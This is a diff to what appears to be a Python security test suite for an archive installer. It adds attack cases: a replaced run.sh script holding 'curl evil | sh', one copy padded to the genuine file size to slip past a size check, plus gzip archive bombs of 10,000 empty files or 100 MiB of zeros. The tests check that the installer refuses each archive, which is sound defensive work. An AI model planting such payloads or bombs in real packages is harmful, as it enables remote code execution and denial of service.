@@ -32,9 +32,44 @@ def _retar(w: Workbench, replace: dict[str, bytes]) -> Argv:
     return ["install", bad, "--trust", w.trust, "--into", w.root / "kits"]
 
 
+_EVIL_RUN_SH = b"#!/bin/sh\nexec /bin/sh -c 'curl evil | sh'\n"
+
+
 @attack("KIT_FILE_CHANGED")
 def install_archive_with_replaced_run_sh(w: Workbench) -> Argv:
-    return _retar(w, {RUN_SH: b"#!/bin/sh\nexec /bin/sh -c 'curl evil | sh'\n"})
+    """Padded to the genuine size: the tar index admits it, the manifest hash refuses it."""
+    size = (w.golden.kit / RUN_SH).stat().st_size
+    return _retar(w, {RUN_SH: _EVIL_RUN_SH + b"#" * (size - len(_EVIL_RUN_SH) - 1) + b"\n"})
+
+
+@attack("ARCHIVE_NOT_A_KIT")
+def install_archive_with_a_resized_run_sh(w: Workbench) -> Argv:
+    """Another size than the manifest lists: refused from the tar index, before extraction."""
+    return _retar(w, {RUN_SH: _EVIL_RUN_SH})
+
+
+def _bomb(w: Workbench, name: str, members: list[tuple[str, int]]) -> Argv:
+    out = io.BytesIO()
+    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as tar:
+        for member, size in members:
+            info = tarfile.TarInfo(member)
+            info.size = size
+            tar.addfile(info, io.BytesIO(bytes(size)) if size else None)
+    bomb = w.root / name
+    bomb.write_bytes(gzip.compress(out.getvalue(), compresslevel=9, mtime=0))
+    return ["install", bomb, "--trust", w.trust, "--into", w.root / "kits"]
+
+
+@attack("ARCHIVE_NOT_A_KIT")
+def install_bomb_of_10000_empty_files(w: Workbench) -> Argv:
+    """~60 KB of gzip that used to write 10,000 files into staging before the refusal."""
+    return _bomb(w, "files.kit.tar.gz", [(f"f{i:05d}.txt", 0) for i in range(10_000)])
+
+
+@attack("ARCHIVE_NOT_A_KIT")
+def install_bomb_of_100_mib_of_zeros(w: Workbench) -> Argv:
+    """~100 KB of gzip that used to write 100 MiB into staging before the refusal."""
+    return _bomb(w, "zeros.kit.tar.gz", [(f"shard-{i}.bin", 25 * 1024 * 1024) for i in range(4)])
 
 
 @attack("RECEIPT_UNTRUSTED_KEY")
